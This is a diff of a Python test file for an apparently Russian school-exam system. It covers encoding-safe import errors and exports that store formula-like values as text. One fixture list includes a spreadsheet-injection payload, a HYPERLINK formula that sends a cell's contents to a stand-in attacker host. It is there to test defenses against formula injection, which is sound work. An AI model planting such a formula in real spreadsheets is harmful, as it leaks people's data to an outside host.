@@ -43,12 +43,19 @@ def test_too_little_russian_asks_the_user():
 
 def test_koi8_import_error_names_columns_correctly():
     """The participants' import names a missing column in readable Russian, whatever the encoding."""
-    from itog.exams.participants_import import validate_rows  # noqa: F401 - the import exists
+    from datetime import date
+
+    from itog.exams.kinds.essay.participants_import import validate_rows
 
     text = "Фамилия;Имя;Класс\nИванов;Иван;11\n"
     table = tables.read_table(text.encode("koi8_r"), "x.csv")
     assert table.header == ["Фамилия", "Имя", "Класс"]
     assert "Файл прочитан в кодировке KOI8-R." in table.notes
+    check = validate_rows(table, set(), {}, [], date(2024, 11, 1))
+    messages = " ".join(e.message for e in check.errors)
+    assert check.errors and not check.records
+    assert "Отчество" in messages or "СНИЛС" in messages or "Дата рождения" in messages, messages
+    assert "Р¤" not in messages and "\ufffd" not in messages  # no mojibake of the header in the message
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Иванов")', "+79001234567", "-1+1", "@SUM(A1)",
@@ -83,10 +90,11 @@ def test_plan_export_writes_formula_like_activity_as_text():
     from itog.plans.exports import plan_xlsx
 
     item = SimpleNamespace(section_id=None, number="1", key="1", activity="=HYPERLINK(\"http://x\",\"y\")",
-                           deadline_raw="-до 1 декабря", responsible_raw="@МОУО")
+                           deadline_raw="-до 1 декабря", deadline_display="-до 1 декабря", responsible_raw="@МОУО")
     ws = load_workbook(io.BytesIO(plan_xlsx(SimpleNamespace(title="=План"), [item]))).active
     assert ws["A1"].data_type == "s" and ws["A1"].value == "=План"
     assert ws["B3"].data_type == "s" and ws["B3"].value.startswith("=HYPERLINK")
+    assert ws["C3"].data_type == "s" and ws["C3"].value == "-до 1 декабря"
 
 
 def test_our_csv_export_reads_back_unchanged():
